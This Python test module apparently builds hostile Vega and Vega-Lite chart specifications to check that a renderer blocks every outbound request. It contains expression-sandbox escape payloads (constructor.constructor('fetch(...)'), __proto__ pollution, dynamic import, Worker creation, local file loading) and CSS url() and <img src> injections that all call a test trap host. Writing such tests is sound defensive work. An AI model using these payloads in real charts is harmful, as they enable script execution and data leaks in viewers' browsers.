"""Charts of Vega and Vega-Lite that try every way out."""

from __future__ import annotations

import json
from typing import Any

from tests.contracts.hostile.inside import drawings
from tests.contracts.hostile.trap import Trap
from tests.contracts.hostile.ways import Documents

Spec = dict[str, Any]
FULL: Spec = {"$schema": "https://vega.github.io/schema/vega/v6.json", "width": 100, "height": 100}
LITE: Spec = {"$schema": "https://vega.github.io/schema/vega-lite/v6.json"}
POINT: Spec = {"mark": "point", "encoding": {"x": {"field": "a", "type": "quantitative"}}}
VALUES: Spec = {"values": [{"a": 1}]}
PAINTS = ("fill", "stroke", "cursor", "font", "href", "url", "tooltip", "shape", "text", "description", "blend")
CONFIG = ("background", "font", "customFormatTypes", "lineBreak", "locale", "events")
EMBED = ("loader", "patch", "config", "sourceHeader", "editorUrl", "formatLocale", "timeFormatLocale", "ast")


def vega(trap: Trap) -> Documents:
    specs = _data(trap) | _pictures(trap) | _code(trap) | _looks(trap)
    drawn = _looks(trap) | _pictures(trap)
    del drawn["mark-shape"]  # no path: the whole chart would be refused for it
    everything = FULL | {"marks": [mark for spec in drawn.values() for mark in spec.get("marks", [])]}
    everything["background"] = f"url({trap.at}/ground)"
    return {name: json.dumps(one) for name, one in ({"everything": everything} | specs).items()}


def _data(trap: Trap) -> dict[str, Spec]:
    at, found = trap.at, dict[str, Spec]()
    for number, url in enumerate(trap.texts):
        found[f"data-{number}"] = LITE | POINT | {"data": {"url": url, "format": {"type": "csv"}}}
        text = {"enter": {"text": {"signal": "toString(datum)"}, "y": {"value": 20}}}
        found[f"vega-data-{number}"] = FULL | {
            "data": [{"name": "t", "url": url, "format": {"type": "dsv", "delimiter": " "}}],
            "marks": [{"type": "text", "from": {"data": "t"}, "encode": text}],
        }
    lookup = {"lookup": "a", "from": {"data": {"url": f"{at}/lookup"}, "key": "a", "fields": ["b"]}}
    view = LITE | POINT | {"data": VALUES}
    inner = POINT | {"data": {"url": f"{at}/inner"}}
    for form in ("json", "csv", "tsv", "topojson", "geojson", "arrow"):
        found[f"form-{form}"] = LITE | POINT | {"data": {"url": f"{at}/form-{form}", "format": {"type": form}}}
    return found | {
        "lookup": view | {"transform": [lookup]},
        "layer": LITE | {"layer": [inner | {"data": {"url": f"{at}/layer"}}]},
        "concat": LITE | {"hconcat": [inner | {"data": {"url": f"{at}/concat"}}]},
        "facet": LITE | {"data": {"url": f"{at}/facet"}, "facet": {"field": "a"}, "spec": POINT},
        "geo": LITE | {"data": {"url": f"{at}/geo.json", "format": {"feature": "x"}}, "mark": "geoshape"},
        "signal": FULL | {"data": [{"name": "t", "url": {"signal": f"'{at}' + '/signal'"}}]},
        "later": FULL | {"data": [{"name": "t", "url": f"{at}/later", "async": True}]},
        "group": FULL | {"marks": [{"type": "group", "data": [{"name": "t", "url": f"{at}/group"}]}]},
        "named": LITE | POINT | {"data": {"name": "t"}, "datasets": {"t": {"url": f"{at}/named"}}},
    }


def _pictures(trap: Trap) -> dict[str, Spec]:
    found = dict[str, Spec]()
    for name, url in (trap.pictures | drawings(trap)).items():
        size = {"width": {"value": 60}, "height": {"value": 60}}
        found[f"image-{name}"] = LITE | {
            "data": {"values": [{"u": url}]},
            "mark": {"type": "image", "width": 60, "height": 60},
            "encoding": {"url": {"field": "u"}},
        }
        mark = {"type": "image", "encode": {"enter": {"url": {"value": url}} | size}}
        found[f"vega-image-{name}"] = FULL | {"marks": [mark]}
    return found


def _code(trap: Trap) -> dict[str, Spec]:
    at, file = trap.at, trap.text.as_uri()
    codes = {
        "constructor": f"toString.constructor('fetch(\"{at}/code\")')()",
        "proto": f"[].constructor.constructor('return fetch')()('{at}/proto')",
        "event": f"event.view.fetch('{at}/event')",
        "view": f"data('x') + event.dataflow.loader().load('{file}')",
        "warn": f"warn(window.fetch('{at}/warn'))",
        "replace": f"replace('a', /a/, constructor.constructor('fetch(\"{at}/r\")'))",
        "open": f"open('{at}/open')",
        "import": f"import('{at}/import')",
        "worker": f"{{}}.constructor.constructor('new Worker(\"{at}/worker\")')()",
        "context": f"this.context.dataflow._loader.load('{at}/context')",
        "merge": f"merge({{}}, {{__proto__: {{toString: '{at}/merge'}}}}) + ''",
        "image": f"image('{at}/image')",
    }
    return {
        f"code-{name}": FULL | {"signals": [{"name": "s", "init": code, "on": [{"events": "*:*", "update": code}]}]}
        for name, code in codes.items()
    }


def _looks(trap: Trap) -> dict[str, Spec]:
    at, found = trap.at, dict[str, Spec]()
    size = {"width": {"value": 9}, "height": {"value": 9}}
    for name in PAINTS:
        value = f"{at}/{name}" if name in {"href", "url"} else f"url({at}/{name})"
        kind = "text" if name in {"font", "text"} else "symbol" if name == "shape" else "rect"
        found[f"mark-{name}"] = FULL | {"marks": [{"type": kind, "encode": {"enter": size | {name: {"value": value}}}}]}
    stops = {"x1": 0, "gradient": "linear", "stops": [{"offset": 0, "color": f"url({at}/stop)"}]}
    fill = {"fill": {"value": stops}, "tooltip": {"value": f"<img src={at}/tip>"}}
    found["mark-gradient"] = FULL | {"marks": [{"type": "rect", "encode": {"enter": size | fill}}]}
    view = LITE | POINT | {"data": VALUES}
    for name in CONFIG:
        found[f"config-{name}"] = view | {"config": {name: f"url({at}/config-{name})"}}
    options = {name: f"{at}/embed-{name}" for name in EMBED} | {"loader": {"baseURL": f"{at}/base"}}
    return found | {
        "embed": view | {"usermeta": {"embedOptions": options}},
        "title": view | {"title": {"text": f"<img src={at}/title>", "font": f"x;src:url({at}/title-font)"}},
        "axis": LITE | POINT | {"data": VALUES, "config": {"axis": {"labelFont": f"x;src:url({at}/axis)"}}},
        "background": view | {"background": f"url({at}/background)"},
        "schema": view | {"$schema": f"{at}/schema/vega-lite/v6.json"},
    }
